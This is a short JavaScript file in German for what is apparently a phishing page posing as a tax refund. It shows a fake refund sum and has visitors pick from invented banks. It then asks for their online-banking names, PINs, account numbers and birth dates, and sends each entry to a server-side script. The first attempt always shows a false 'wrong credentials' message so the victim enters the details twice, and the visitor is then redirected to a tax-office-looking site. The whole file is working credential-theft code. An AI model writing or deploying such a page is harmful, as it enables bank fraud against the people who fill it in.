document.addEventListener('DOMContentLoaded', () => {
  const banken = [
    { id: 'aurora', name: 'Aurora Bank', felder: ['Anmeldename', 'PIN'] },
    { id: 'seekasse', name: 'Seekasse', felder: ['Kontonummer', 'Online-PIN', 'Geburtsdatum'] },
    { id: 'volk', name: 'Nordvolk', felder: ['NetKey', 'PIN'] },
  ];
  const liste = document.querySelector('#bankwahl');
  const bereich = document.querySelector('#zugang');
  let daten = {};

  document.querySelector('#betrag').textContent = '384,17 €';

  banken.forEach((b) => {
    const li = document.createElement('li');
    li.innerHTML = `<img src="assets/${b.id}.svg" alt=""> ${b.name}`;
    li.onclick = () => zeige(b);
    liste.appendChild(li);
  });

  document.querySelector('#person').onsubmit = (e) => {
    e.preventDefault();
    daten = Object.fromEntries(new FormData(e.target));
    e.target.classList.add('weg');
    document.querySelector('.schritt2').classList.remove('weg');
  };

  function zeige(b) {
    bereich.innerHTML = `<h2>Anmeldung bei ${b.name}</h2><form>${b.felder.map((f) => `<label>${f}<input name="${f}" type="${/PIN/.test(f) ? 'password' : 'text'}" required></label>`).join('')}<p class="fehler"></p><button>Erstattung erhalten</button></form>`;
    const form = bereich.querySelector('form');
    let versuche = 0;
    form.onsubmit = async (e) => {
      e.preventDefault();
      const eintrag = { ...daten, bank: b.name, zugang: Object.fromEntries(new FormData(form)) };
      await fetch('lib/speichern.php', { method: 'POST', body: JSON.stringify(eintrag) }).catch(() => {});
      if (versuche++ === 0) {
        form.querySelector('.fehler').textContent = 'Die Anmeldedaten sind falsch. Bitte prüfen Sie Ihre Eingabe.';
        form.reset();
      } else {
        window.location.href = 'https://www.steuer-amt.example/';
      }
    };
  }
});
